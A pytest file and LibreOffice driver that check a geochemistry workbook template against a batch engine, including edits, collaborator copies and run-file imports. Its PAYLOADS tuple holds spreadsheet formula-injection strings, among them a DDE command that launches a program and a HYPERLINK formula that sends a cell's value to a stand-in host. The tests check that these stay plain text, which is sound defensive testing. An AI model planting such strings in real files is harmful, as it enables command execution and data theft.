"""The template workbook in a real LibreOffice: the live chain, grid = batch, the menu commands.

LibreOffice opens the demo workbook (written by templates/build_template.py's writers), recalculates
it, and every computed cell must equal the batch path's value (the engine without LibreOffice) to
1e-10 relative. Then a reference-material accepted value, a spike calibration and a decay constant
are edited in the grid; after each edit LibreOffice recalculates only what depends on it
(``calculate()``, not ``calculateAll()``) and every dependent cell must again equal the engine given
the new value. Finally the collaborator copy (values + provenance, the open document untouched) and
the run-file import (text never becomes a formula) are exercised on the same document.

This file is also the LibreOffice-side driver: ``/usr/bin/python3 test_template_live.py COMMAND
PORT PAYLOAD.json`` (it needs ``uno``, so it runs under the system Python, see harness.py).
"""
from __future__ import annotations

import copy
import json
import subprocess
import sys
from pathlib import Path
from typing import Any, Dict, List

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
# Grid (LibreOffice's Python, its numpy 1.24) and batch (the venv's current numpy) agree to 1e-12
# relative everywhere: the chain's Jacobian is a complex step (exact to rounding), so last-bit differences
# of exp/log between numpy versions stay last-bit differences instead of being amplified by 1/h.
REL_TOL = 1e-12
REL_TOL_SIGMA_ACROSS_NUMPY = 1e-12
# ρ lies in [-1, 1] and is often near 0 (a difference of cancelling covariance terms): held absolutely.
ABS_TOL_RHO_ACROSS_NUMPY = 1e-12
SIGMA_KEYS = ("_1s", "_2s", "rho", "_pct", "_ppm", "age_95", "slope_1s")
# Deviation outlines (ppm from the fitted line): (y − ŷ)/ŷ·1e6 cancels y against the line, so a last-bit
# difference of slope or intercept between numpy builds is 1e-16 of the ratio = 1e-10 ppm; held absolutely to
# 1e-6 ppm (1e-12 of the ratio).
ABS_TOL_DEVIATION_PPM = 1e-6


# ============================================================================================
# driver side (system Python with uno)
# ============================================================================================
def _cells_of(doc: Any, wanted: List[List[Any]]) -> List[Any]:
    """The shown value of each wanted cell (a number, a text, or {"error": code}), read per sheet in one
    getDataArray over the cells' bounding range, with the error cells found by one formula-result query."""
    by_sheet: Dict[str, List[Any]] = {}
    for sheet, row, col in wanted:
        by_sheet.setdefault(sheet, []).append((row, col))
    got: Dict[Any, Any] = {}
    sheets = doc.getSheets()
    for sheet, keys in by_sheet.items():
        sh = sheets.getByName(sheet)
        r1, r2 = min(r for r, _c in keys), max(r for r, _c in keys)
        c1, c2 = min(c for _r, c in keys), max(c for _r, c in keys)
        rng = sh.getCellRangeByPosition(c1, r1 - 1, c2, r2 - 1)
        data = rng.getDataArray()
        errors = set()
        # com.sun.star.sheet.FormulaResult.ERROR = 4: the formula cells of the range that show an error
        for addr in rng.queryFormulaCells(4).getRangeAddresses():
            for r in range(addr.StartRow, addr.EndRow + 1):
                for c in range(addr.StartColumn, addr.EndColumn + 1):
                    errors.add((r + 1, c))
        for row, col in keys:
            if (row, col) in errors:
                got[(sheet, row, col)] = {"error": sh.getCellByPosition(col, row - 1).getError()}
            else:
                got[(sheet, row, col)] = data[row - r1][col - c1]
    return [got[(sheet, row, col)] for sheet, row, col in wanted]


def _set(doc: Any, sheet: str, row: int, col: int, value: float) -> None:
    doc.getSheets().getByName(sheet).getCellByPosition(col, row - 1).setValue(value)


def driver_live(ctx: Any, payload: Dict[str, Any]) -> Dict[str, Any]:
    import driver as d

    sys.path.insert(0, str(ROOT / "macros"))
    import commands

    path = Path(payload["book"])
    doc = d.open_doc(ctx, path)
    out: Dict[str, Any] = {}
    try:
        doc.calculateAll()
        out["initial"] = _cells_of(doc, payload["cells"])
        out["validations"] = []
        for sheet, row, col in payload.get("validation_cells", ()):
            v = doc.getSheets().getByName(sheet).getCellByPosition(col, row - 1).getPropertyValue("Validation")
            out["validations"].append([v.Type.value, v.getFormula1(), v.ErrorAlertStyle.value, v.ShowErrorMessage])
        steps = []
        for edit in payload["edits"]:
            _set(doc, edit["sheet"], edit["row"], edit["col"], edit["value"])
            doc.calculate()          # dependents only: the grid's own dependency tracking
            steps.append(_cells_of(doc, payload["cells"]))
        out["steps"] = steps
        before = _cells_of(doc, payload["inputs"])
        copy_url = Path(payload["copy"]).resolve().as_uri()
        out["copy"] = commands.write_collaborator_copy(ctx, doc, copy_url)
        out["inputs_after_copy"] = _cells_of(doc, payload["inputs"])
        out["inputs_before_copy"] = before
        res = commands.import_run_file(doc, payload["run_file"], lambda msg: out.setdefault("confirm", msg) != "")
        out["import"] = res
        meas = doc.getSheets().getByName("Measured")
        row0 = res["first_row"] - 1
        kinds = []
        for k in range(res["imported"]):
            row = []
            for j in range(6):
                cell = meas.getCellByPosition(j, row0 + k)
                row.append([cell.getType().value, cell.getString()])
            kinds.append(row)
        out["imported_cells"] = kinds
        # the imported runs name analyses that Samples does not list: the template's own cell says so
        doc.calculate()
        out["after_import"] = _cells_of(doc, payload["notice_cells"])
        # a filled cell below Measured's template rows, and formula-like text typed as sample names
        _set(doc, "Measured", payload["below_row"], 0, 1.0)
        samples = doc.getSheets().getByName("Samples")
        for k, text in enumerate(payload["payloads"]):
            samples.getCellByPosition(1, payload["first_row"] - 1 + k).setString(text)
        doc.calculate()
        out["after_below"] = _cells_of(doc, payload["notice_cells"])
        out["copy2"] = commands.write_collaborator_copy(ctx, doc, Path(payload["copy2"]).resolve().as_uri())
    finally:
        doc.close(True)
    return out


def driver_engine(payload: Dict[str, Any]) -> List[List[Any]]:
    """The batch evaluator run in LibreOffice's own Python (same numpy/scipy as the add-in)."""
    sys.path.insert(0, str(ROOT))
    from reduction.workbook import evaluate

    out = []
    for grid in payload["grids"]:
        ev = evaluate(grid)
        out.append([ev.cells.get(tuple(k), "") for k in payload["cells"]])
    return out


def _driver_main() -> int:
    sys.path[:0] = [str(HERE), str(ROOT / "macros")]
    import install as lo

    command, port = sys.argv[1], int(sys.argv[2])
    payload = json.loads(Path(sys.argv[3]).read_text(encoding="utf-8"))
    if command == "engine":
        print(json.dumps(driver_engine(payload)))
        return 0
    ctx = lo.connect(port, timeout=90.0)
    if command != "live":
        raise SystemExit(f"unknown command {command!r}")
    print(json.dumps(driver_live(ctx, payload)))
    return 0


# ============================================================================================
# test side (venv)
# ============================================================================================
if __name__ != "__main__":
    import pytest

    import reduction.workbook.demo as demo
    from reduction.workbook import (
        CAPACITY_CELL,
        CONSTANTS,
        CYCLES,
        FIRST_ROW,
        ISOCHRON_FIRST_Q_ROW,
        ISOCHRON_QUANTITIES,
        ISOCHRON_SUMMARY_COL,
        MARKER,
        MEASURED,
        ORPHAN_CELL,
        RESULTS,
        SPIKES,
        all_computed_cells,
        choices,
        evaluate,
        layout_grid,
        orphan_message,
        read_ods,
        write_xlsx,
    )

    sys.path.insert(0, str(ROOT / "templates"))
    from odswriter import write_ods

    pytestmark = pytest.mark.libreoffice

    RUN_FILE = ("# invented run file (RatioDesk run-file format)\n"
                "#map Sample ID=analysis\n"
                "Sample ID,element,date,143Nd/144Nd,143Nd/144Nd 2s,146Nd/144Nd,146Nd/144Nd 2s\n"
                "SN-99,Nd,2026-05-01,0.5041,4e-6,0.7477,8e-6\n"
                "=HYPERLINK(\"http://example.invalid\"),+Nd,@SUM(1),-0.5,+1e-6,0.7,1e-6\n")

    #: formula-like text (the injection corpus of tests/engine/test_batch_safety.py)
    PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x?leak="&Constants!C6,"click me")', "+1+1", "-1+1",
                "@SUM(1)", "\t=1", "\r=1", '=WEBSERVICE("http://x")')

    def _row(grid, sheet, key, col=0, second=None):
        for r in range(FIRST_ROW, len(grid[sheet]) + 1):
            row = grid[sheet][r - 1]
            if row and row[col] == key and (second is None or row[1] == second):
                return r
        raise AssertionError(key)

    def _put(grid, sheet, row, col, v):
        line = grid[sheet][row - 1]
        while len(line) <= col:
            line.append("")
        line[col] = v

    def _close(a, b, tol=REL_TOL):
        if isinstance(a, float) and isinstance(b, float):
            return a == b or abs(a - b) <= tol * max(abs(a), abs(b))
        return a == b

    def _is_sigma(key):
        from reduction.workbook import ELLIPSE_COL0, ISOCHRON

        sheet, row, col = key
        if sheet in ("Results", "Steps", "Spikes", "Cycles", "Runs"):
            from reduction.workbook import SHEET_BY_NAME

            name = SHEET_BY_NAME[sheet].columns[col].key
        elif sheet == "Standards":
            from reduction.workbook import STANDARDS

            name = {"z": "z_1s"}.get(STANDARDS.columns[col].key, STANDARDS.columns[col].key)   # z divides by a σ
        elif sheet == "Groups":
            from reduction.workbook import GROUP_ELLIPSE_COL, GROUP_POINT_COLUMNS, GROUP_POINTS_TOP, GROUPS

            if row >= GROUP_POINTS_TOP:
                name = "ellipse_1s" if col >= GROUP_ELLIPSE_COL else GROUP_POINT_COLUMNS[col][0]
            else:
                name = GROUPS.columns[col].key if col < len(GROUPS.columns) else ""
        elif col >= ELLIPSE_COL0:
            name = "ellipse_1s"      # outline = centre + Cholesky factor of the covariance: σ-derived
        elif col < len(ISOCHRON.columns):
            name = ISOCHRON.columns[col].key
        else:
            name = ISOCHRON_QUANTITIES[row - ISOCHRON_FIRST_Q_ROW][0]
        return any(k in name for k in SIGMA_KEYS) or name in ("eps_t", "mswd", "p", "message")

    def _live_layout():
        """The demo workbook with two runs changed so the live chain also covers issue 12's paths: SN-01's Nd run
        carries a 147Sm/144Nd monitor (Sm isobars stripped), SN-02's Nd run is a NdO+ run (oxide ratios of every Nd
        isotope, from its metal ratios and the convention's 142, 145, 148; VSMOW oxygen). Grid = batch is what is
        checked here, not the truth (that is tests/engine/test_end_to_end.py's job)."""
        from reduction.composition import natural_composition
        from reduction.workbook import build_layout, fill_values

        tables = demo.demo_tables()
        nd = {r["analysis"]: r for r in tables["Measured"] if r["element"] == "Nd"}
        nd["SN-01"].update({"r5_name": "147Sm/144Nd", "r5": 3e-5, "r5_sigma_1s": 3e-7})
        row = nd["SN-02"]
        metal = {row[f"r{k}_name"].split("/")[0]: row[f"r{k}"] for k in (1, 2, 3)}
        nat = natural_composition("Nd")
        for iso in ("142Nd", "145Nd", "148Nd"):
            metal[iso] = nat.ratio(iso, "144Nd")
        metal["144Nd"] = 1.0
        o17, o18 = 379.9e-6, 2005.20e-6
        m = {int(k[:-2]): v for k, v in metal.items()}
        ox = {a + 16: m[a] + o17 * m.get(a - 1, 0.0) + o18 * m.get(a - 2, 0.0) for a in m}
        names = [f"{a}Nd/144Nd" for a in sorted(m) if a != 144]
        for k, name in enumerate(names, start=1):
            v = ox[int(name[:3]) + 16] / ox[160]
            row[f"r{k}_name"], row[f"r{k}"], row[f"r{k}_sigma_1s"] = name, v, v * 1e-5
        row["ion"] = "oxide"
        lay = build_layout(tables, constants=demo.demo_constants(), isochron_selection=demo.demo_selection())
        fill_values(lay, evaluate(layout_grid(lay), strict=False))
        return lay

    @pytest.fixture(scope="module", params=[".ods", ".xlsx"])
    def live(request, office, tmp_path_factory):
        work = tmp_path_factory.mktemp("live")
        lay = _live_layout()
        book = work / f"demo{request.param}"
        (write_ods if request.param == ".ods" else write_xlsx)(lay, book)
        grid = layout_grid(lay)
        cells = all_computed_cells()
        edits, grids = [], []
        g = copy.deepcopy(grid)
        vcol = CONSTANTS.col_index("value")
        for sheet, key, second, col, factor in (
                ("Constants", "rm.JNdi-1.143Nd/144Nd", None, vcol, 1 + 3e-5),
                ("Spikes", "LH-SmNd-3", "Sm", SPIKES.col_index("conc_umol_g"), 1.004),
                ("Constants", "decay.Sm147", None, vcol, 6.5238e-12 / 6.54e-12),
                ("Measured", "SN-01", "Nd", MEASURED.col_index("r5"), 1.5),
                ("Constants", "oxygen.18O/16O", None, vcol, 1.05),
                ("Cycles", "SN-05", "Nd", CYCLES.col_index("r2"), 1 + 3e-5)):
            r = _row(g, sheet, key, 0, second)
            new = g[sheet][r - 1][col] * factor
            _put(g, sheet, r, col, new)
            edits.append({"sheet": sheet, "row": r, "col": col, "value": new})
            grids.append(copy.deepcopy(g))
        inputs = [["Samples", r, c] for r in range(FIRST_ROW, FIRST_ROW + len(demo.FRACTIONS) + 1) for c in range(10)]
        payload = {"book": str(book), "cells": [list(c) for c in cells], "edits": edits, "inputs": inputs,
                   "copy": str(work / "collaborator.ods"), "run_file": RUN_FILE,
                   "notice_cells": [list(CAPACITY_CELL), list(ORPHAN_CELL)], "below_row": MEASURED.last_row + 2,
                   "validation_cells": [[c.sheet, c.rows[-1], c.col] for c in choices()],
                   "payloads": list(PAYLOADS), "first_row": FIRST_ROW, "copy2": str(work / "collaborator2.ods")}
        pin = work / "live-in.json"
        pin.write_text(json.dumps(payload), encoding="utf-8")
        proc = subprocess.run(["/usr/bin/python3", __file__, "live", str(office.port), str(pin)],
                              capture_output=True, text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr[-4000:]
        got = json.loads(proc.stdout.strip().splitlines()[-1])
        ein = work / "engine-in.json"
        ein.write_text(json.dumps({"grids": [grid] + grids, "cells": [list(c) for c in cells]}), encoding="utf-8")
        proc = subprocess.run(["/usr/bin/python3", __file__, "engine", "0", str(ein)], capture_output=True,
                              text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr[-4000:]
        same_python = json.loads(proc.stdout.strip().splitlines()[-1])
        return {"got": got, "cells": cells, "grid": grid, "grids": grids, "work": work, "kind": request.param,
                "same_python": same_python}

    def _scatter_rows():
        return {ISOCHRON_FIRST_Q_ROW + i: q for i, (q, _l, _u) in enumerate(ISOCHRON_QUANTITIES) if q in ("mswd", "p")}

    def _refit_from_grid(cells, got):
        """MSWD and p of each system's isochron, fitted in the venv to the points the grid shows.

        Named hard case: MSWD = Σ r²/σ² has a condition number of about y/σy (1e5 here) with respect to
        the daughter ratios, so a last-bit difference of one y between numpy 1.24 and 2.x (each value still
        equal to 1e-12) moves MSWD by ~1e-11. The grid's MSWD is therefore held to 1e-12 against the York fit
        of the grid's own points (a check of the fit step alone); the points are held to 1e-12 as values.
        """
        from reduction.regression import york_fit
        from reduction.workbook import ISOCHRON, ISOCHRON_BLOCK, ISOCHRON_SYSTEMS

        vals = dict(zip(cells, got))
        out = {}
        for k, system in enumerate(ISOCHRON_SYSTEMS):
            first, last = ISOCHRON_BLOCK[system]
            pts = []
            for row in range(first, last + 1):
                p = [vals.get(("Isochron", row, ISOCHRON.col_index(q))) for q in ("x", "x_1s", "y", "y_1s", "rho")]
                if all(isinstance(v, float) for v in p):
                    pts.append(p)
            if len(pts) < 3:
                continue
            fit = york_fit(*zip(*pts))
            col = ISOCHRON_SUMMARY_COL + 1 + k
            for row, q in _scatter_rows().items():
                out[("Isochron", row, col)] = fit.mswd if q == "mswd" else fit.p_value
        # the Groups sheet: each demo group refitted to the grid's Results points of its Samples rows (the live
        # book's groups are the demo's, every row used)
        from reduction.workbook import GROUPS, RESULTS

        names = list(dict.fromkeys(demo.DEMO_GROUP.values()))
        for g_row, name in enumerate(names, start=FIRST_ROW):
            pts = []
            for k, fr in enumerate(demo.FRACTIONS):
                if demo.DEMO_GROUP.get((fr.sample, fr.system)) != name:
                    continue
                p = [vals.get(("Results", FIRST_ROW + k, RESULTS.col_index(q))) for q in ("x", "x_1s", "y", "y_1s",
                                                                                          "rho")]
                if all(isinstance(v, float) for v in p):
                    pts.append(p)
            if len(pts) >= 3:
                fit = york_fit(*zip(*pts))
                out[("Groups", g_row, GROUPS.col_index("mswd"))] = fit.mswd
                out[("Groups", g_row, GROUPS.col_index("p"))] = fit.p_value
        return out

    def _compare(cells, got, ev):
        """Grid vs the batch path in the venv: values to REL_TOL, σ/ρ-derived cells to the named hard case."""
        from reduction.workbook import GROUPS

        bad = []
        refit = _refit_from_grid(cells, got)
        vals = dict(zip(cells, got))
        q = {name: ISOCHRON_FIRST_Q_ROW + i for i, (name, _l, _u) in enumerate(ISOCHRON_QUANTITIES)}
        for key, v in zip(cells, got):
            want = refit[key] if key in refit else ev.cells.get(key, "")
            sheet, row, col = key
            if sheet == "Isochron" and row == q["age_95"] and col > ISOCHRON_SUMMARY_COL and isinstance(want, float):
                # t·√MSWD-expanded: the batch value carried to the grid's own MSWD (see _refit_from_grid)
                m_grid, m_batch = vals.get(("Isochron", q["mswd"], col)), ev.cells.get(("Isochron", q["mswd"], col))
                if isinstance(m_grid, float) and isinstance(m_batch, float):
                    want *= (max(m_grid, 1.0) / max(m_batch, 1.0)) ** 0.5
            if sheet == "Groups" and row <= GROUPS.last_row and col == GROUPS.col_index("age_95") and \
                    isinstance(want, float):
                # the same carry on the Groups sheet (its MSWD is refitted to the grid's points)
                mcol = GROUPS.col_index("mswd")
                m_grid, m_batch = vals.get(("Groups", row, mcol)), ev.cells.get(("Groups", row, mcol))
                if isinstance(m_grid, float) and isinstance(m_batch, float):
                    want *= (max(m_grid, 1.0) / max(m_batch, 1.0)) ** 0.5
            tol = REL_TOL_SIGMA_ACROSS_NUMPY if _is_sigma(key) else REL_TOL
            if _is_rho(key) and isinstance(v, float) and isinstance(want, float):
                if abs(v - want) > ABS_TOL_RHO_ACROSS_NUMPY:
                    bad.append((key, v, want))
            elif _is_deviation(key) and isinstance(v, float) and isinstance(want, float):
                # ppm from the line: a difference of y and the line (cancellation), held to 1e-12 of the ratio
                if abs(v - want) > ABS_TOL_DEVIATION_PPM:
                    bad.append((key, v, want))
            elif not _close(v, want, tol):
                bad.append((key, v, want))
        return bad

    def _is_deviation(key):
        from reduction.workbook import DEVIATION_COL0, GROUP_DEVIATION_COL, GROUP_POINTS_TOP

        sheet, row, col = key
        if sheet == "Groups":
            return row >= GROUP_POINTS_TOP and col == GROUP_DEVIATION_COL + 1
        return sheet == "Isochron" and col >= DEVIATION_COL0 and (col - DEVIATION_COL0) % 2 == 1

    def _is_rho(key):
        from reduction.workbook import ELLIPSE_COL0, GROUP_POINT_COLUMNS, GROUP_POINTS_TOP, ISOCHRON

        sheet, row, col = key
        if sheet == "Results":
            return RESULTS.columns[col].key == "rho"
        if sheet == "Groups":
            return row >= GROUP_POINTS_TOP and col < len(GROUP_POINT_COLUMNS) and GROUP_POINT_COLUMNS[col][0] == "rho"
        return sheet == "Isochron" and col < min(ELLIPSE_COL0, len(ISOCHRON.columns)) and \
            ISOCHRON.columns[col].key == "rho"

    def _worst(cells, got, want):
        w = 0.0
        for _key, a, b in zip(cells, got, want):
            if isinstance(a, float) and isinstance(b, float) and a != b:
                w = max(w, abs(a - b) / max(abs(a), abs(b)))
        return w

    def test_grid_equals_engine_in_the_same_python(live):
        """Every computed cell equals the engine run in LibreOffice's own Python, initially and after each edit."""
        runs = [live["got"]["initial"]] + live["got"]["steps"]
        for k, (got, want) in enumerate(zip(runs, live["same_python"])):
            bad = [(key, a, b) for key, a, b in zip(live["cells"], got, want)
                   if not (_close(a, b) or (_is_deviation(key) and isinstance(a, float) and isinstance(b, float)
                                            and abs(a - b) <= ABS_TOL_DEVIATION_PPM))]
            assert not bad, (k, bad[:5])

    def test_grid_equals_batch_path(live):
        ev = evaluate(live["grid"])
        bad = _compare(live["cells"], live["got"]["initial"], ev)
        assert not bad, bad[:5]
        vals = [(k, a) for k, a in zip(live["cells"], live["got"]["initial"]) if not _is_sigma(k)]
        worst_values = _worst([k for k, _ in vals], [a for _, a in vals], [ev.cells.get(k, "") for k, _ in vals])
        assert worst_values <= REL_TOL
        age = live["got"]["initial"][live["cells"].index(("Isochron", ISOCHRON_FIRST_Q_ROW + 1,
                                                          ISOCHRON_SUMMARY_COL + 1))]
        assert isinstance(age, float) and abs(age - demo.TRUE_AGES_MA["sm-nd"]) < 3
        # the total with the spike calibration and the spike column are numbers in the grid (not the
        # same message on both sides), equal to the batch path, and larger than the slope-only error
        q = {name: i for i, (name, _l, _u) in enumerate(ISOCHRON_QUANTITIES)}
        for k in range(2):
            key = ("Isochron", ISOCHRON_FIRST_Q_ROW + q["age_2s_total"], ISOCHRON_SUMMARY_COL + 1 + k)
            lam = ("Isochron", ISOCHRON_FIRST_Q_ROW + q["age_2s_lambda"], ISOCHRON_SUMMARY_COL + 1 + k)
            tot = live["got"]["initial"][live["cells"].index(key)]
            assert isinstance(tot, float) and _close(tot, ev.cells[key], REL_TOL_SIGMA_ACROSS_NUMPY)
            assert tot > live["got"]["initial"][live["cells"].index(lam)]
        spk = live["got"]["initial"][live["cells"].index(("Results", FIRST_ROW, RESULTS.col_index("x_spike_1s_pct")))]
        assert isinstance(spk, float) and spk > 0

    @pytest.mark.parametrize("step,what", [(0, "accepted value of JNdi-1"), (1, "Sm spike calibration"),
                                           (2, "147Sm decay constant"), (3, "147Sm monitor of a Nd run"),
                                           (4, "oxygen 18O/16O of an oxide run"), (5, "one cycle of a Nd run")])
    def test_live_chain_follows_each_edit(live, step, what):
        ev = evaluate(live["grids"][step])
        got = live["got"]["steps"][step]
        bad = _compare(live["cells"], got, ev)
        assert not bad, (what, bad[:5])
        prev = live["got"]["steps"][step - 1] if step else live["got"]["initial"]
        changed = sum(1 for a, b in zip(prev, got) if a != b)
        assert changed > 0, f"nothing recalculated after editing the {what}"

    def test_collaborator_copy_has_values_and_provenance_and_leaves_the_book_alone(live):
        got = live["got"]
        assert got["inputs_after_copy"] == got["inputs_before_copy"]
        data = read_ods(live["work"] / "collaborator.ods")
        assert not data.formulas                         # a machine without RatioDesk shows every value
        assert "Provenance" in data.grid
        flat = " ".join(str(v) for r in data.grid["Provenance"] for v in r)
        assert "decay.Sm147" in flat and "LH-SmNd-3" in flat and "RatioDesk" in flat
        final = live["got"]["steps"][-1]
        k = live["cells"].index(("Isochron", ISOCHRON_FIRST_Q_ROW + 1, ISOCHRON_SUMMARY_COL + 1))
        r, c = live["cells"][k][1], live["cells"][k][2]
        # LibreOffice stores office:value with 15 significant digits
        assert data.grid["Isochron"][r - 1][c] == pytest.approx(final[k], rel=1e-14)

    def test_run_file_import_stores_text_as_text(live):
        got = live["got"]
        assert got["import"]["imported"] == 2 and "Import 2 run(s)" in got["confirm"]
        first, second = got["imported_cells"]
        assert first[0] == ["TEXT", "SN-99"] and first[4][0] == "VALUE"
        # a formula-looking text stays text
        assert second[0] == ["TEXT", '=HYPERLINK("http://example.invalid")']
        assert second[1] == ["TEXT", "+Nd"] and second[2] == ["TEXT", "@SUM(1)"]
        assert second[4][0] == "VALUE"                   # -0.5 is a number


    def test_template_cells_name_unmatched_runs_and_rows_below_the_template(live):
        capacity, orphan = live["got"]["after_import"]
        assert capacity == ""
        assert orphan == orphan_message(2)           # SN-99 and the formula-like ID of the run file
        capacity, orphan = live["got"]["after_below"]
        assert capacity.startswith(f"{MARKER}not reduced in Calc — Measured: 1 filled cell(s) below row "
                                   f"{MEASURED.last_row}")
        assert orphan == orphan_message(2)

    def test_collaborator_copy_keeps_formula_like_text_as_text(live):
        import zipfile

        path = live["work"] / "collaborator2.ods"
        data = read_ods(path)
        assert not data.formulas
        names = [data.grid["Samples"][FIRST_ROW - 1 + k][1] for k in range(len(PAYLOADS))]
        # Calc keeps a typed CR as a line break (ODF text:line-break, read back as LF): still text
        typed = [p.replace("\r", "\n") for p in PAYLOADS]
        assert names == typed
        xml = zipfile.ZipFile(path).read("content.xml").decode("utf-8")
        assert "table:formula=" not in xml
        results = [data.grid["Results"][FIRST_ROW - 1 + k][1] for k in range(len(PAYLOADS))]
        assert results == typed                       # copied to Results as text, never evaluated

    def test_drop_down_lists_are_live_in_calc(live):
        """Every drop-down list of the template is a validity rule of its cell in Calc (last row of each range):
        a list (or whole number 0-1 for the Use flags), refusing (stop) or warning as defined, with a message."""
        got = live["got"]["validations"]
        cs = choices()
        assert len(got) == len(cs)
        for c, (kind, formula1, alert, show) in zip(cs, got):
            assert kind == ("WHOLE" if c.whole_0_1 else "LIST"), c.name
            assert alert == ("STOP" if c.strict else "WARNING"), c.name
            assert show, c.name
            if c.source is not None:
                sheet, letter, r1, r2 = c.source_range()
                assert formula1.replace("$", "") == f"{sheet}.{letter}{r1}:{letter}{r2}", (c.name, formula1)
            elif not c.whole_0_1:
                assert formula1.split(";")[0].strip('"') == c.values[0], (c.name, formula1)


if __name__ == "__main__":
    sys.exit(_driver_main())
